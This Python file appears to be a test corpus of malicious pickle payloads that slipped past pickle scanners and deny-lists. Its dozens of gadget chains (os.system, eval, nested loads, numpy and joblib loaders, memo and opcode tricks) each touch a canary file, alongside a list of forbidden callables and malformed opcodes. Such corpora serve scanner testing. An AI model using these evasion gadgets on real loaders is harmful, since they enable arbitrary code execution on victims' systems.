"""Pickles by which scanners and lists of forbidden names were passed, as bytes.

Each row of `FIRING` touches the file that it is told when Python's own pickle loads it; as a
program, this proves it: ``python bypasses.py DIRECTORY`` prints the rows that did not.
"""

from __future__ import annotations

import contextlib
import io
import pickle
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Build = Callable[[str], bytes]  # the path of the canary -> the pickle


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    """GLOBAL, as the oldest protocols write it."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """STACK_GLOBAL; the dotted names are walked from protocol 4 on."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93"


def data(value: Any) -> bytes:
    return pickle.dumps(value, 2)[2:-1]


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def touch(canary: str) -> bytes:
    return text(f"touch '{canary}'")


def source(canary: str) -> bytes:
    return text(f"open({canary!r}, 'w').close()")


def system(canary: str) -> bytes:
    return call(named("os", "system"), touch(canary))


def inner(canary: str) -> bytes:
    """A pickle within a pickle."""
    return b"B" + struct.pack("<I", len(system(canary)) + 1) + system(canary) + b"."


def on_disk(canary: str) -> bytes:
    """The path of such a pickle."""
    Path(canary + ".pkl").write_bytes(system(canary) + b".")
    return text(canary + ".pkl")


def script(canary: str) -> bytes:
    Path(canary + ".py").write_bytes(source(canary)[5:])
    return text(canary + ".py")


def imported(name: str) -> bytes:
    return call(named("importlib", "import_module"), text(name))


def runs(module: str, name: str, *more: bytes) -> Build:
    """module.name("the source")."""
    return lambda c: call(stacked(module, name), source(c), *more)


def shells(module: str, name: str, *before: bytes) -> Build:
    """module.name("the command")."""
    return lambda c: call(stacked(module, name), *before, touch(c))


def opens(module: str, name: str, *more: bytes) -> Build:
    """module.name("the canary")."""
    return lambda c: call(stacked(module, name), text(c), *more)


def framed(size: int) -> Build:
    return lambda c: b"\x80\x04\x95" + struct.pack("<Q", size or len(system(c)) + 1) + system(c)


FIRING: dict[str, Build] = {
    **{f"protocol {n}": lambda c, n=n: b"\x80" + bytes([n]) + system(c) for n in range(6)},
    "INST": lambda c: b"(" + touch(c) + b"ios\nsystem\n",
    "OBJ": lambda c: b"(" + named("os", "system") + touch(c) + b"o",
    "OBJ of a class": lambda c: b"(" + named("io", "FileIO") + text(c) + data("w") + b"o",
    "NEWOBJ": lambda c: named("io", "FileIO") + b"(" + text(c) + data("w") + b"t\x810" + system(c),
    "posix": shells("posix", "system"),
    "subprocess": shells("subprocess", "getoutput"),
    "__builtin__": lambda c: call(named("__builtin__", "eval"), source(c)),
    "commands of Python 2": lambda c: call(named("commands", "getoutput"), touch(c)),
    "eval": runs("builtins", "eval"),
    "exec": runs("builtins", "exec"),
    "io.open": opens("io", "open", data("w")),
    "_io.open": opens("_io", "open", data("w")),
    "_io.FileIO": opens("_io", "FileIO", data("w")),
    "codecs.open": opens("codecs", "open", data("w")),
    "dotted name": shells("os", "path.os.system"),
    "dotted through a listed package": shells("joblib", "os.system"),
    "getattr": lambda c: call(
        call(stacked("builtins", "getattr"), imported("os"), text("system")), touch(c)
    ),
    "operator.attrgetter": lambda c: call(
        call(call(named("operator", "attrgetter"), text("system")), imported("os")), touch(c)
    ),
    "operator.methodcaller": lambda c: call(
        call(named("operator", "methodcaller"), text("system"), touch(c)), imported("os")
    ),
    "_operator": lambda c: call(
        call(named("_operator", "methodcaller"), text("system"), touch(c)), imported("posix")
    ),
    "functools.partial": lambda c: call(
        call(named("functools", "partial"), named("os", "system"), touch(c))
    ),
    "functools.reduce": lambda c: call(
        call(
            named("functools", "reduce"),
            stacked("builtins", "getattr"),
            b"(" + imported("os") + text("system") + b"l",
        ),
        touch(c),
    ),
    "pkgutil.resolve_name": lambda c: call(
        call(named("pkgutil", "resolve_name"), text("os:system")), touch(c)
    ),
    "memo overwritten": lambda c: text("collections") + b"q\0" + text("OrderedDict")
    + b"q\x0100" + text("os") + b"q\0" + text("system") + b"q\x0100"
    + call(b"h\0h\x01\x93", touch(c)),
    "memo read before it is plain": lambda c: named("os", "system") + b"p7\n0g7\n("
    + touch(c) + b"tR",
    "memo far away": lambda c: named("os", "system") + b"r\xff\xff\0\0" + b"0j\xff\xff\0\0("
    + touch(c) + b"tR",
    "text popped": lambda c: text("os") + text("x") + b"0" + text("system") + b"\x93("
    + touch(c) + b"tR",
    "text through a mark": lambda c: text("os") + b"(" + text("decoy") + b"1" + text("system")
    + b"\x93(" + touch(c) + b"tR",
    "text twice": lambda c: text("timeit") + b"2\x93(" + text("1") + source(c) + b"tR",
    "behind a decoy": lambda c: stacked("collections", "OrderedDict") + b"0" + system(c),
    "in a state": lambda c: call(stacked("collections", "OrderedDict")) + system(c) + b"0",
    "nested": lambda c: call(named("pickle", "loads"), inner(c)),
    "nested, _pickle": lambda c: call(named("_pickle", "loads"), inner(c)),
    "nested, pickle._loads": lambda c: call(named("pickle", "_loads"), inner(c)),
    "nested, cPickle": lambda c: call(named("cPickle", "loads"), inner(c)),
    "nested, cloudpickle": lambda c: call(named("cloudpickle", "loads"), inner(c)),
    "nested, multiprocessing": lambda c: call(
        stacked("multiprocessing.connection", "_ForkingPickler.loads"), inner(c)
    ),
    "numpy.load": lambda c: call(named("numpy", "load"), on_disk(c), b"N", b"\x88"),
    "numpy.savetxt": opens("numpy", "savetxt", data([1])),
    "numpy.testing": runs("numpy.testing", "runstring", b"}"),
    "joblib.load": lambda c: call(named("joblib", "load"), on_disk(c)),
    "joblib, private": lambda c: call(named("joblib.numpy_pickle", "load"), on_disk(c)),
    "joblib.dump": lambda c: call(named("joblib", "dump"), b"N", text(c)),
    "joblib.Memory": opens("joblib", "Memory"),
    "scipy.io, a class": opens("scipy.io", "FortranFile", data("w")),
    "scipy.io, by its module": opens("scipy.io._netcdf", "netcdf_file", data("w")),
    "sklearn.datasets": lambda c: call(
        named("sklearn.datasets", "dump_svmlight_file"), data([[1.0]]), data([1]), text(c)
    ),
    "timeit": lambda c: call(stacked("timeit", "timeit"), text("1"), source(c)),
    "cProfile": runs("cProfile", "run"),
    "profile": runs("profile", "run"),
    "bdb": lambda c: call(stacked("bdb", "Bdb.run"), call(named("bdb", "Bdb")), source(c)),
    "trace": lambda c: call(
        stacked("trace", "Trace.run"), call(named("trace", "Trace"), b"\x89", b"\x89"), source(c)
    ),
    "code": lambda c: call(
        stacked("code", "InteractiveInterpreter.runsource"),
        call(named("code", "InteractiveInterpreter")),
        source(c),
    ),
    "runpy": lambda c: call(named("runpy", "run_path"), script(c)),
    "pydoc": lambda c: call(named("pydoc", "pipepager"), data("x"), touch(c)),
    "pathlib": lambda c: call(
        stacked("pathlib", "Path.touch"), call(named("pathlib", "Path"), text(c))
    ),
    "_osx_support": shells("_osx_support", "_read_output"),
    "logging": opens("logging", "FileHandler"),
    "zipfile": opens("zipfile", "ZipFile", data("w")),
    "sqlite3": opens("sqlite3", "connect"),
    "shutil": lambda c: call(named("shutil", "copy"), script(c), text(c)),
    "a frame": framed(0),
}  # fmt: skip


# Names that are refused whether they are there or not.
NAMES = [
    "nt.system", "ctypes.CDLL", "ctypes.PyDLL", "_ctypes.dlopen", "_ctypes.call_function",
    "ctypes.util.find_library", "_posixsubprocess.fork_exec", "pip.main", "pip._internal.main",
    "pip._internal.cli.main.main", "pdb.run", "pdb.Pdb", "bdb.Bdb", "torch.load", "torch.hub.load",
    "torch.jit.load", "torch.serialization.load", "torch.storage._load_from_bytes",
    "torch._utils._rebuild_tensor", "pandas.read_pickle", "pandas.io.pickle.read_pickle",
    "pandas.io.common.get_handle", "pandas.eval", "pandas.core.computation.expr.Expr",
    "pandas.core.computation.eval.eval", "pandas.ExcelWriter", "pandas.HDFStore",
    "pandas._libs.index.DatetimeEngine", "pandas._libs.index.TimedeltaEngine",
    "pandas._libs.tslibs.base.ABCTimestamp", "pandas._libs.tslibs.nattype._NaT",
    "pandas._libs.tslibs.timestamps._Timestamp",
    "numpy.lib.format.read_array", "numpy.lib.npyio.NpzFile", "numpy.lib._npyio_impl.NpzFile",
    "numpy.f2py.__main__.main", "numpy.ctypeslib.load_library", "numpy.fromfile",
    "numpy.frombuffer", "numpy.lib.npyio.load", "joblib.externals.cloudpickle.loads",
    "numpy.lib._stride_tricks_impl.as_strided", "numpy.lib._stride_tricks_impl.DummyArray",
    "numpy.distutils.exec_command.exec_command", "numpy.vectorize.__call__",
    "numpy.apply_along_axis", "numpy.fromfunction", "joblib.Parallel", "joblib.delayed",
    "joblib.memory.MemorizedFunc", "joblib.parallel.BatchedCalls",
    "joblib.numpy_pickle.NumpyUnpickler", "joblib._utils.eval_expr",
    "joblib.externals.loky.backend.popen_loky_posix.Popen", "sklearn.utils.parallel.Parallel",
    "sklearn.utils._testing.TempMemmap",
    "sklearn.utils._testing.assert_run_python_script_without_output",
    "sklearn.datasets.fetch_openml", "sklearn.externals._arff.load", "scipy.LowLevelCallable",
    "scipy._lib._ccallback.LowLevelCallable", "scipy._lib._util.MapWrapper", "scipy.io.savemat",
    "scipy.spatial._qhull._Qhull", "scipy.stats.rv_continuous",
    "scipy.stats._distn_infrastructure.rv_continuous",
    "builtins.compile", "builtins.globals", "builtins.input", "builtins.breakpoint",
    "builtins.object.__reduce__", "__builtin__.apply", "__main__.anything", "marshal.loads",
    "types.FunctionType", "idlelib.pyshell.ModifiedInterpreter", "ensurepip._run_pip",
    "distutils.file_util.write_file", "venv.create", "webbrowser.open", "shelve.open", "dill.loads",
    "asyncio.run", "multiprocessing.util.spawnv_passfds", "imaplib.IMAP4_stream",
]  # fmt: skip


# What no writer of pickles writes; whatever comes of it, nothing else may.
BROKEN: dict[str, Build] = {
    "a frame that is too long": framed(1 << 20),
    "a frame of 2^63": framed(1 << 63),
    "a frame that ends within": framed(5),
    "protocol 255": lambda c: b"\x80\xff" + system(c),
    "a protocol in the middle": lambda c: text("os") + b"\x80\x09" + text("system") + b"\x93",
    "a persistent id": lambda c: b"Pos.system\n",
    "a persistent id of any kind": lambda c: system(c)[:11] + b"Q",
    "an extension": lambda c: b"\x80\x02\x82\x01",
    "an extension of code 0": lambda c: b"\x80\x02\x84\0\0\0\0",
    "an extension below 0": lambda c: b"\x80\x02\x84\xff\xff\xff\xff",
    "a buffer that is not there": lambda c: b"\x80\x05\x97" + system(c),
    "a mark that is not there": lambda c: named("os", "system") + touch(c) + b"tR",
    "a memo that is not there": lambda c: b"h\x05" + system(c),
    "a memo below 0": lambda c: b"g-1\n" + system(c),
    "an unknown opcode": lambda c: b"\xfe" + system(c),
    "a size below 0": lambda c: b"T\xff\xff\xff\xff" + system(c),
    "a size of 2^63": lambda c: b"\x8e" + struct.pack("<Q", 1 << 63) + system(c),
    "nothing": lambda c: b"",
}


def misfired(directory: Path) -> list[str]:
    """Load them all, as anybody would; the names of those that did nothing."""
    found = []
    for number, (name, build) in enumerate(FIRING.items()):
        canary = directory / f"canary {number}"
        why = ""
        with contextlib.redirect_stdout(io.StringIO()):
            try:
                pickle.loads(build(str(canary)) + b".")
            except Exception as error:
                why = repr(error)
        if not canary.exists():
            found.append(f"{name}: {why}")
    return found


if __name__ == "__main__":
    print("\n".join(misfired(Path(sys.argv[1]))))
